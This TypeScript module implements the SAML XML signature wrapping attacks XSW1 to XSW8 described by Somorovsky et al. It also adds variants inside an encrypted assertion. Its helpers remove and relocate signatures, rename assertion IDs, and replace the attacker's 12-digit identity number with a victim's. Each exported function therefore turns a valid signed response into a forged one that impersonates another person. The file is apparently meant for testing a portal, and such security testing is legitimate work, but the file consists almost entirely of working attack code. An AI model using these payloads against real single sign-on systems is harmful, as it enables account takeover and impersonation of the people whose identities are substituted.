/** Signature wrapping (Somorovsky et al., On Breaking SAML, 2012): what is signed moves, a forged copy takes its place. */

type Wrap = (xml: string) => string;

const signatureIn = (xml: string) => /<ds:Signature[\s\S]*<\/ds:Signature>/.exec(xml)?.[0] ?? '';
const assertionIn = (xml: string) =>
  /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
const renamed = (xml: string) => xml.replace(/\bID="[^"]+"/, 'ID="_forged"');
const unsigned = (xml: string) => xml.replace(signatureIn(xml), '');
const withObject = (signature: string, content: string) =>
  signature.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`);
const inside = (signature: string, content: string) =>
  signature.replace('</ds:Signature>', `${content}</ds:Signature>`);
const beforeEnd = (xml: string, content: string) => xml.replace(/<\/[^<]+>$/, `${content}$&`);
const afterIssuer = (xml: string, content: string) => xml.replace('</saml:Issuer>', `$&${content}`);

/** The victim's number in place of the attacker's own. */
const forged = (assertion: string, number = '195702182568') =>
  renamed(unsigned(assertion)).replace(/\d{12}(?=<\/saml:AttributeValue>)/, number);

/** XSW1 and XSW2, of a signed response. */
export const wrappedResponse: Record<string, Wrap> = {
  'XSW1, the original inside its own signature': (xml) => {
    const signature = signatureIn(xml);
    return renamed(xml).replace(signature, withObject(signature, unsigned(xml)));
  },
  'XSW2, the original beside its signature': (xml) => {
    const signature = signatureIn(xml);
    return renamed(xml).replace(signature, `${unsigned(xml)}${signature}`);
  },
};

const inResponse =
  (wrap: (assertion: string) => string): Wrap =>
  (xml) =>
    xml.replace(assertionIn(xml), () => wrap(assertionIn(xml)));

/** XSW3 to XSW8, of a plain signed assertion in a response. */
export const wrappedAssertion: Record<string, Wrap> = {
  'XSW3, a forged assertion before the original': inResponse((one) => forged(one) + one),
  'XSW4, the original inside a forged assertion': inResponse((one) => beforeEnd(forged(one), one)),
  'XSW5, the signature moved to a forged assertion': inResponse(
    (one) => afterIssuer(forged(one), signatureIn(one)) + unsigned(one),
  ),
  'XSW6, the original inside the moved signature': inResponse((one) =>
    afterIssuer(forged(one), inside(signatureIn(one), unsigned(one))),
  ),
  'XSW7, a forged assertion in the extensions': inResponse(
    (one) => `<samlp:Extensions>${forged(one)}</samlp:Extensions>${one}`,
  ),
  'XSW8, the original as an object of the moved signature': inResponse((one) =>
    afterIssuer(forged(one), withObject(signatureIn(one), unsigned(one))),
  ),
};

/** The same inside one encrypted assertion: anybody can encrypt for the portal. */
export const wrappedInside: Record<string, Wrap> = {
  'XSW4 inside the encryption': (one) => beforeEnd(forged(one), one),
  'XSW5 inside the encryption': (one) =>
    beforeEnd(afterIssuer(forged(one), signatureIn(one)), unsigned(one)),
  'XSW6 inside the encryption': (one) =>
    afterIssuer(forged(one), inside(signatureIn(one), unsigned(one))),
  'XSW7 inside the encryption': (one) =>
    beforeEnd(forged(one), `<saml:Advice>${one}</saml:Advice>`),
  'XSW8 inside the encryption': (one) =>
    afterIssuer(forged(one), withObject(signatureIn(one), unsigned(one))),
};
